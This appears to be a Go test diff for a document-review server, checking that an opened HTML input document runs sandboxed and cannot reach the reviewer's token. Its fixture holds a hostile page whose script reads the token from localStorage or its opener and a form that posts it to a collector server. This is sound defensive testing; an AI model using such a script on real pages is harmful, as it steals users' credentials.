@@ -4,6 +4,9 @@ import (
 	"cmp"
 	"context"
 	"encoding/json"
+	"fmt"
+	"net/http"
+	"net/http/httptest"
 	"os"
 	"path/filepath"
 	"regexp"
@@ -13,6 +16,7 @@ import (
 	"time"
 
 	"github.com/chromedp/cdproto/browser"
+	"github.com/chromedp/cdproto/target"
 	"github.com/chromedp/chromedp"
 )
 
@@ -423,5 +427,117 @@ func browseWithToken(t *testing.T, ctx context.Context, srv *reviewServer, root 
 	}
 	if !strings.Contains(decision, "rejected by alice") {
 		t.Errorf("REQ-007: %q", decision)
+	}
+}
+
+// hostileDocument is an input document that, opened from the review page,
+// tries to take the reviewer's token, from the page's storage or its
+// opener's, and holds a form that posts to another server (the %s).
+const hostileDocument = `<!doctype html>
+<html><head><title>Retention policy</title></head>
+<body>
+<h1>Retention of accounting records</h1>
+<p>The finance department must retain invoices for ten years.</p>
+<p>Records must be stored in the archive in a form that cannot be altered.</p>
+<p>Business letters shall be kept for six years.</p>
+<script>
+  let got = "";
+  try { got = localStorage.getItem("creator-review-token") || ""; } catch (e) {}
+  try { got = got || opener.localStorage.getItem("creator-review-token") || ""; } catch (e) {}
+  document.body.dataset.stolen = got;
+</script>
+<form id="leak" method="post" action="%s"><input name="token" value=""></form>
+</body></html>
+`
+
+// TestReviewOpensDocumentsInASandbox: served with --allow-remote, the page
+// opens a hostile HTML input document from its source link where the
+// document can reach no token: not in storage (its origin is none of the
+// page's), not in its address, not through its opener, and it cannot post
+// a form (its scripts, even when they run, are in a sandbox).
+func TestReviewOpensDocumentsInASandbox(t *testing.T) {
+	t.Parallel()
+	browser := chromium(t)
+	posted := make(chan string, 10)
+	collector := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		r.ParseForm()
+		posted <- r.Method + " " + r.URL.String() + " " + r.Form.Encode()
+	}))
+	defer collector.Close()
+	doc := filepath.Join(t.TempDir(), "policy.html")
+	if err := os.WriteFile(doc, []byte(fmt.Sprintf(hostileDocument, collector.URL+"/leak")), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	dir := runBuiltin(t, doc, "hostile")
+	srv := startReview(t, "--workspace", filepath.Dir(dir), "--job", "hostile", "--allow-remote", "--reviewers", "alice")
+	address, _, _ := strings.Cut(srv.url, " ")
+	_, token, found := strings.Cut(address, "#token=")
+	if !found || len(token) < 32 {
+		t.Fatalf("the review printed %q, no address with a token", srv.url)
+	}
+
+	opts := append(chromedp.DefaultExecAllocatorOptions[:], chromedp.ExecPath(browser), chromedp.NoSandbox, chromedp.DisableGPU,
+		chromedp.UserDataDir(t.TempDir()), chromedp.Flag("disable-quic", true), chromedp.Flag("disable-component-update", true))
+	alloc, cancelAlloc := chromedp.NewExecAllocator(context.Background(), opts...)
+	defer cancelAlloc()
+	ctx, cancelCtx := chromedp.NewContext(alloc)
+	defer cancelCtx()
+	ctx, cancel := context.WithTimeout(ctx, 60*time.Second)
+	defer cancel()
+
+	opened := chromedp.WaitNewTarget(ctx, func(info *target.Info) bool { return info.URL != "" && info.URL != "about:blank" })
+	var link string
+	err := chromedp.Do(ctx,
+		chromedp.Navigate(address),
+		settled(),
+		shownReq("REQ-001"),
+		into(&link, chromedp.Text(chromedp.CSS(`#detail .source a.doc-link`))),
+		chromedp.Click(chromedp.CSS(`#detail .source a.doc-link`)),
+	)
+	if err != nil {
+		t.Fatalf("the page: %v\n%s", err, srv.stderr.String())
+	}
+	var id target.ID
+	select {
+	case id = <-opened:
+	case <-ctx.Done():
+		t.Fatalf("%q opened no tab", link)
+	}
+	tab, cancelTab := chromedp.NewContext(ctx, chromedp.WithTargetID(id))
+	defer cancelTab()
+	// What the document reaches, as its own scripts would: the token in
+	// its storage or its opener's, its address, its cookies.
+	var reach struct {
+		URL, Origin, Text, Stolen, Storage, Opener, Cookie string
+	}
+	err = chromedp.Do(tab,
+		chromedp.Poll[chromedp.Void](`document.readyState === 'complete' && document.body !== null && document.body.textContent.includes('ten years')`),
+		into(&reach, chromedp.Evaluate[struct{ URL, Origin, Text, Stolen, Storage, Opener, Cookie string }](`(() => {
+			const r = { URL: location.href, Origin: self.origin, Text: document.body.textContent, Stolen: document.body.dataset.stolen || "" };
+			try { r.Storage = JSON.stringify({ ...localStorage }); } catch (e) { r.Storage = "refused: " + e.name; }
+			try { r.Opener = opener === null ? "none" : JSON.stringify({ ...opener.localStorage }); } catch (e) { r.Opener = "refused: " + e.name; }
+			try { r.Cookie = document.cookie; } catch (e) { r.Cookie = "refused: " + e.name; }
+			return r;
+		})()`)),
+		// The document's form posts the token's place elsewhere.
+		chromedp.Evaluate[chromedp.Void](`document.querySelector('#leak').submit()`),
+	)
+	if err != nil {
+		t.Fatalf("the document %q: %v", link, err)
+	}
+	t.Logf("the document: %+v", reach)
+	for what, v := range map[string]string{"its address": reach.URL, "its storage": reach.Storage, "its opener": reach.Opener,
+		"its cookies": reach.Cookie, "its text": reach.Text, "its scripts": reach.Stolen} {
+		if strings.Contains(v, token) {
+			t.Errorf("the document reaches the reviewer's token through %s: %q", what, v)
+		}
+	}
+	if reach.Origin != "null" {
+		t.Errorf("the document runs in the origin %q, not in a sandbox", reach.Origin)
+	}
+	select {
+	case got := <-posted:
+		t.Errorf("the document posted a form: %s", got)
+	case <-time.After(time.Second):
 	}
 }
